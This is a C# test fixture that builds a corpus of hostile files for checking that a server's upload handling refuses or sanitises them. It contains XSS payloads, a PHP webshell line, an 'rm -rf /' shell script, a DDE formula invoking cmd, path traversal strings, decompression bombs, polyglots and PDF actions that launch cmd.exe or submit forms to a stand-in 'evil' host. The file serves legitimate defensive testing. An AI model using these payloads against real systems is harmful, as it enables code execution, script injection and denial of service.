using System.IO.Compression;
using System.Text;

namespace CommandCentre.Server.Tests.Files;

/// <summary>A file somebody might send to do harm.</summary>
/// <param name="Name">What it tries.</param>
/// <param name="Bytes">The file.</param>
/// <param name="MayBeTaken">Whether it may be taken, harmless; otherwise it must be refused.</param>
public sealed record HostileFile(string Name, byte[] Bytes, bool MayBeTaken = false)
{
    public override string ToString() => Name;
}

/// <summary>The corpus: bombs, polyglots, scripts, wrong types, cut files, things beside the pixels, PDFs that act. Whatever is to be found nowhere afterwards says <see cref="Canary"/>.</summary>
internal static class HostileFiles
{
    public const string Canary = "ZQCANARY";

    private static readonly string[] Said =
    [
        $"{Canary} 52.5163N 13.3777E", $"<script>{Canary}</script>", $"=cmd|' /C calc'!{Canary}", $"<?php system('{Canary}'); ?>", $"../../{Canary}", $"{Canary} Jan Kowalski, camera 4711",
    ];

    public static IReadOnlyList<HostileFile> All { get; } = [.. WrongTypes(), .. Markup(), .. Texts(), .. Bombs(), .. Cut(), .. Mixed(), .. Beside(), .. Pdf(), .. PackedPdf()];

    private static IEnumerable<HostileFile> WrongTypes()
    {
        (string Name, byte[] Start)[] types =
        [
            ("zip", [.. "PK"u8, 3, 4]), ("empty zip", [.. "PK"u8, 5, 6]), ("gzip", [0x1f, 0x8b, 8]), ("bzip2", [.. "BZh9"u8]), ("xz", [0xfd, .. "7zXZ"u8, 0]), ("7z", [.. "7z"u8, 0xbc, 0xaf, 0x27, 0x1c]), ("rar", [.. "Rar!"u8, 0x1a, 7]),
            ("zstd", [0x28, 0xb5, 0x2f, 0xfd]), ("cab", [.. "MSCF"u8, 0, 0]), ("office of before", [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), ("exe", [.. "MZ"u8, 0x90, 0]), ("ELF", [0x7f, .. "ELF"u8, 2]),
            ("Mach-O", [0xcf, 0xfa, 0xed, 0xfe]), ("Java class", [0xca, 0xfe, 0xba, 0xbe]), ("WebAssembly", [0, .. "asm"u8, 1]), ("shortcut", [0x4c, 0, 0, 0, 1, 0x14, 2, 0]), ("TIFF II", [.. "II*"u8, 0]), ("TIFF MM", [.. "MM"u8, 0, .. "*"u8]),
            ("HEIC", [0, 0, 0, 24, .. "ftypheic"u8]), ("AVIF", [0, 0, 0, 24, .. "ftypavif"u8]), ("MP4", [0, 0, 0, 24, .. "ftypisom"u8]), ("icon", [0, 0, 1, 0, 1, 0]), ("JPEG XL", [0xff, 0x0a]), ("Photoshop", [.. "8BPS"u8, 0, 1]),
            ("DICOM", [.. new byte[128], .. "DICM"u8]), ("tar", [.. Enumerable.Repeat((byte)'a', 257), .. "ustar"u8]), ("SQLite", [.. "SQLite format 3"u8, 0]), ("random", [0x93, 0xfe, 0x12, 0x88]),
        ];
        return types.Select(type => new HostileFile($"{type.Name}", [.. type.Start, .. Enumerable.Repeat((byte)0x5a, 400)]));
    }

    private static IEnumerable<HostileFile> Markup()
    {
        string[] texts =
        [
            "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "<svg onload=\"alert(1)\"></svg>", "<?xml version=\"1.0\"?><svg><script>alert(1)</script></svg>", "\ufeff<svg><script/></svg>", "  \n\t<svg width=\"1\"/>", "<SVG ONLOAD=alert(1)>",
            "<svg><foreignObject><body onload=alert(1)/></foreignObject></svg>", "<!DOCTYPE svg [<!ENTITY a \"&b;&b;\">]><svg>&a;</svg>", "<!-- --><svg/>", "<!doctype html><html></html>", "<html><script>alert(1)</script></html>", "<script>alert(1)</script>",
            "<iframe src=javascript:alert(1)>", "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<meta http-equiv=refresh content=\"0;url=//evil\">", "<?php system($_GET[0]); ?>", "<% Response.Write(1) %>", "<?xml version=\"1.0\"?><a/>",
            "<body onload=alert(1)>", "<object data=x></object>", "<embed src=x>", "<math><mtext></mtext></math>", "<form action=//evil><input></form>", "MIME-Version: 1.0\nContent-Type: text/html\n\nx", new string('a', 5000) + "<script>alert(1)</script>",
            "plain words\n\n<details open ontoggle=alert(1)>", "<style>@import '//evil'</style>", "<base href=//evil>", "<xml id=x></xml>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ];
        return texts.Select((text, at) => new HostileFile($"markup {at}: {text[..Math.Min(text.Length, 24)].Replace('\n', ' ')}", Encoding.UTF8.GetBytes(text)));
    }

    private static IEnumerable<HostileFile> Texts() =>
    [
        new("no bytes", []), new("script with a shebang", Bytes("#!/bin/sh\nrm -rf /\n")), new("shebang behind a mark", Bytes("\ufeff#!/bin/sh\n")), new("RTF", Bytes("{\\rtf1 {\\object}}")), new("PostScript", Bytes("%!PS-Adobe-3.0\n")),
        new("UTF-16", Encoding.Unicode.GetBytes("words")), new("UTF-16 the other way", [0xfe, 0xff, .. Encoding.BigEndianUnicode.GetBytes("words")]), new("NUL within", Bytes("words\0more")), new("escapes of a terminal", Bytes("words \u001b]0;title\u0007")),
        new("half a letter", [.. "words "u8, 0xc3]), new("overlong slash", [.. "words "u8, 0xc0, 0xaf]), new("surrogate in UTF-8", [.. "words "u8, 0xed, 0xa0, 0x80]), new("Latin letters of before", [.. "stra"u8, 0xdf, .. "e"u8]), new("PDF further on", Bytes("words\n%PDF-1.4\n")),
        new("long text", Enumerable.Repeat((byte)'a', (1024 * 1024) + 1).ToArray()), new("too large", new byte[(15 * 1024 * 1024) + 1]), new("formulas", Bytes($"=HYPERLINK(\"//evil\")\n+1\n@SUM(1)\n"), true), new("paths", Bytes("../../etc/passwd\nC:\\windows\n"), true),
    ];

    private static IEnumerable<HostileFile> Bombs()
    {
        var zeros = Pdfs.Bomb(60);
        yield return new("PNG of two thousand million pixels", Pictures.PngOf(50_000, 50_000, zeros));
        yield return new("PNG of the largest number", Pictures.PngOf(uint.MaxValue, uint.MaxValue, zeros));
        yield return new("PNG beyond the limit", Pictures.PngOf(10_000, 5_001, zeros));
        yield return new("PNG long and thin", Pictures.PngOf(1, 16_385, zeros));
        yield return new("PNG of no width", Pictures.PngOf(0, 100, zeros));
        yield return new("PNG with less than it says", Pictures.PngOf(4_000, 4_000, Pdfs.Deflated(new byte[100])));
        yield return new("PNG with more than it says", Pictures.PngOf(4, 4, zeros), true);
        yield return new("PNG with a packed profile", Pictures.WithChunk(Pictures.Png(), "iCCP", [.. "x"u8, 0, 0, .. zeros]), true);
        yield return new("PNG with a packed text", Pictures.WithChunk(Pictures.Png(), "zTXt", [.. "x"u8, 0, 0, .. zeros]), true);
        yield return new("PNG with an endless chunk", [.. Pictures.Png()[..33], 0x7f, 0xff, 0xff, 0xff, .. "IDAT"u8, 1, 2, 3]);
        yield return new("GIF of the largest size", Pictures.Gif(string.Empty, 65_535, 65_535));
        yield return new("BMP of the largest size", Pictures.Bmp(int.MaxValue, int.MaxValue));
        yield return new("BMP upside down without end", Pictures.Bmp(2, int.MinValue));
        yield return new("BMP of negative width", Pictures.Bmp(-2, 2));
        yield return new("WebP of the largest canvas", Pictures.Riff("RIFF", [.. "WEBP"u8, .. Pictures.Riff("VP8X", [0, 0, 0, 0, 255, 255, 255, 255, 255, 255])]));
        yield return new("WebP without loss of the largest size", Pictures.Riff("RIFF", [.. "WEBP"u8, .. Pictures.Riff("VP8L", [0x2f, 255, 255, 255, 255, .. new byte[20]])]));
        yield return new("JPEG of the largest size", Sized(Pictures.Jpeg(), 65_535, 65_535));
        yield return new("JPEG of no size", Sized(Pictures.Jpeg(), 0, 0));
        yield return new("JPEG painted hundreds of times", [.. Pictures.Jpeg()[..^2], .. Enumerable.Repeat<byte[]>([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 0x12], 500).SelectMany(scan => scan), 0xff, 0xd9]);
        yield return new("JPEG with two sizes", Pictures.With(Pictures.Jpeg(), 0xc0, [8, .. Pictures.Big16(60_000), .. Pictures.Big16(60_000), 1, 1, 0x11, 0]));
        yield return new("ZIP within ZIP", Zipped("a.zip", Zipped("b", new byte[1_000_000])));
        yield return new("PDF whose objects unpack to 60 MB", Pdfs.Packed(string.Empty, pack: _ => zeros));
    }

    private static IEnumerable<HostileFile> Cut()
    {
        foreach (var (name, whole) in new[] { ("JPEG", Pictures.Jpeg(400, 300)), ("PNG", Pictures.Png(400, 300)), ("WebP", Pictures.WebP(400, 300)), ("PDF", Pdfs.Plain) })
        {
            foreach (var share in new[] { 4, 16, 30, 60, 97 })
            {
                yield return new($"{name}, {share} % of it", whole[..(whole.Length * share / 100)]);
            }
        }
    }

    private static IEnumerable<HostileFile> Mixed()
    {
        byte[] script = Bytes($"<script>{Canary}</script>"), zip = Zipped("x.js", Bytes(Canary));
        yield return new("JPEG with a ZIP behind", [.. Pictures.Jpeg(), .. zip], true);
        yield return new("JPEG with a page behind", [.. Pictures.Jpeg(), .. script], true);
        yield return new("JPEG with a PDF behind", [.. Pictures.Jpeg(), .. Pdfs.With($"/OpenAction << /S /JavaScript /JS ({Canary}) >>")], true);
        yield return new("PNG with a ZIP behind", [.. Pictures.Png(), .. zip], true);
        yield return new("PNG with a page behind", [.. Pictures.Png(), .. script], true);
        yield return new("PNG with a page as a chunk", Pictures.WithChunk(Pictures.Png(), "teSt", script), true);
        yield return new("GIF with a script behind", [.. Pictures.Gif(), .. script], true);
        yield return new("GIF that is a script", Bytes($"GIF89a=1;{Canary}()"));
        yield return new("BMP with a script behind", [.. Pictures.Bmp(), .. script], true);
        yield return new("WebP with a page behind", [.. Pictures.WebP(), .. script], true);
        yield return new("page before a JPEG", [.. script, .. Pictures.Jpeg()]);
        yield return new("page before a PDF", [.. script, .. Pdfs.Plain]);
        yield return new("words before a PDF", [.. Bytes("words\n"), .. Pdfs.Plain]);
        yield return new("line before a PDF", [.. Bytes("\n"), .. Pdfs.Plain]);
        yield return new("ZIP before a PDF", [.. zip, .. Pdfs.Plain]);
        yield return new("PDF with a ZIP behind", [.. Pdfs.Plain, .. zip]);
        yield return new("PDF with a ZIP around its end", [.. Pdfs.Plain, .. zip, .. Bytes("\n%%EOF\n")]);
        yield return new("PDF with a page behind", [.. Pdfs.Plain, .. script]);
        yield return new("PDF with a page in a remark", Spliced("%PDF-1.7\n", $"%PDF-1.7\n%<script>{Canary}</script>\n"));
        yield return new("PDF with a page between objects", Spliced("endobj\n2 0", $"endobj\n<html>{Canary}</html>\n2 0"));
        yield return new("PDF with a script between objects", Spliced("endobj\n2 0", "endobj\nalert(1);\n2 0"));
    }

    private static IEnumerable<HostileFile> Beside()
    {
        foreach (var (at, said) in Said.Index())
        {
            var bytes = Bytes(said);
            yield return new($"JPEG, EXIF {at}", Pictures.With(Pictures.Jpeg(), 0xe1, Pictures.Exif(1, said)), true);
            yield return new($"JPEG, XMP {at}", Pictures.With(Pictures.Jpeg(), 0xe1, [.. "http://ns.adobe.com/xap/1.0/\0"u8, .. bytes]), true);
            yield return new($"JPEG, remark {at}", Pictures.With(Pictures.Jpeg(), 0xfe, bytes), true);
            yield return new($"JPEG, IPTC {at}", Pictures.With(Pictures.Jpeg(), 0xed, [.. "Photoshop 3.0\08BIM"u8, .. bytes]), true);
            yield return new($"PNG, text {at}", Pictures.WithChunk(Pictures.Png(), "tEXt", [.. "Comment\0"u8, .. bytes]), true);
            yield return new($"PNG, EXIF {at}", Pictures.WithChunk(Pictures.Png(), "eXIf", Pictures.Exif(1, said)[6..]), true);
            yield return new($"WebP, EXIF and XMP {at}", Pictures.WebPWith(said, said), true);
            yield return new($"GIF, remark {at}", Pictures.Gif(said), true);
        }
    }

    private static IEnumerable<HostileFile> Pdf()
    {
        string[] acts =
        [
            "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "/AA << /WC << /S /JavaScript /JS (x) >> >>", "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", "/OpenAction << /S /J#61vaScript /J#53 (x) >>", "/OpenAction << /S /#4aavaScript >>",
            "/OpenAction << /S /Launch /F (cmd.exe) >>", "/OpenAction << /S /Laun#63h /Win << /F (cmd.exe) >> >>", "/OpenAction << /S /URI /URI (http://evil) >>", "/OpenAction << /S /SubmitForm /F (http://evil) >>", "/OpenAction << /S /ResetForm >>",
            "/OpenAction << /S /ImportData /F (x.fdf) >>", "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>", "/OpenAction << /S /GoToE >>", "/OpenAction << /S /Rendition /JS (x) >>", "/OpenAction << /S /Movie >>", "/OpenAction << /S /Sound >>",
            "/OpenAction << /S /Thread /F (x) >>", "/OpenAction << /S /GoTo3DView >>", "/AcroForm << /XFA [(x) 5 0 R] >>", "/AcroForm << /Fields [] /X#46A 5 0 R >>", "/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", "/AF [5 0 R]", "/X << /EF << /F 5 0 R >> >>",
            "/X << /Type /Filespec /F (x) >>", "/X << /Subtype /FileAttachment >>", "/X << /Subtype /RichMedia >>", "/X << /Subtype /3D >>", "/X << /Type /EmbeddedFile >>", "/URI << /Base (http://evil) >>", "/X (a \\) b) /OpenAction << /S /JavaScript >>",
            "/X <48656c6c6f> /AA 5 0 R", "/X [1 2 /JS]",
        ];
        foreach (var act in acts)
        {
            yield return new($"PDF {act[..Math.Min(act.Length, 40)]}", Pdfs.With(act));
        }

        yield return new("PDF that is locked", Spliced("/Root 1 0 R", "/Root 1 0 R /Encrypt 5 0 R"));
        yield return new("PDF without its end", Pdfs.Plain[..^7]);
        yield return new("PDF that is only a name", Bytes("%PDF-1.7\n%%EOF\n"));
        yield return new("PDF with a text that never ends", Spliced("/Type /Pages", "/X (never /Type /Pages"));
        yield return new("PDF with a broken number", Spliced("/Count 1", "/Count 1x"));
        yield return new("PDF with a script added later", [.. Pdfs.Plain, .. Bytes("9 0 obj << /S /JavaScript /JS (x) >> endobj\ntrailer << /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n")]);
        yield return new("PDF with objects hidden in a stream", Pdfs.With(string.Empty, Pdfs.Stream("<< /Length {0} >>", Bytes("9 0 obj << /S /Java endobj"))));
        yield return new("PDF with a stream that never ends", Spliced("endstream", "endstrean"));
        yield return new("PDF with a script in a stream", Pdfs.With(string.Empty, Pdfs.Stream("<< /Length {0} >>", Bytes("<< /S /JavaScript /JS (x) >>"))));
    }

    private static IEnumerable<HostileFile> PackedPdf()
    {
        foreach (var act in new[] { "<< /S /JavaScript /JS (x) >>", "<< /JS (x) >>", "<< /AA 5 0 R >>", "<< /EF << >> >>", "<< /S /Laun#63h >>", "<< /URI (http://evil) >>", "<< /XFA [] >>" })
        {
            yield return new($"PDF packed {act}", Pdfs.Packed(act));
        }

        yield return new("PDF packed twice", Pdfs.Packed("<< /JS (x) >>", "/Filter [/FlateDecode /ASCIIHexDecode]"));
        yield return new("PDF packed in another way", Pdfs.Packed("<< /JS (x) >>", "/Filter /LZWDecode"));
        yield return new("PDF packed with a predictor", Pdfs.Packed("<< /JS (x) >>", "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"));
        yield return new("PDF whose packing is said elsewhere", Pdfs.Packed("<< /JS (x) >>", "/Filter 9 0 R"));
        yield return new("PDF whose packing is broken", Pdfs.Packed("<< /JS (x) >>", pack: content => [.. Pdfs.Deflated(content).Reverse()]));
        yield return new("PDF packed in the open", Pdfs.Packed("<< /JS (x) >>", string.Empty, content => content));
        yield return new("PDF packed without saying so", Pdfs.With(string.Empty, Pdfs.Stream("<< /N 1 /Fi#72st 4 /Filter /FlateDecode /Length {0} >>", Pdfs.Deflated(Bytes("7 0 << /JS (x) >>")))));
    }

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Spliced(string here, string instead) => Pdfs.Text(Encoding.Latin1.GetString(Pdfs.Plain).Replace(here, instead, StringComparison.Ordinal));

    /// <summary>The same JPEG, its frame saying another size.</summary>
    private static byte[] Sized(byte[] jpeg, int width, int height)
    {
        var at = jpeg.AsSpan().IndexOf([(byte)0xff, (byte)0xc0]);
        return [.. jpeg[..(at + 5)], .. Pictures.Big16(height), .. Pictures.Big16(width), .. jpeg[(at + 9)..]];
    }

    private static byte[] Zipped(string name, byte[] content)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name).Open();
            entry.Write(content);
        }

        return bytes.ToArray();
    }
}
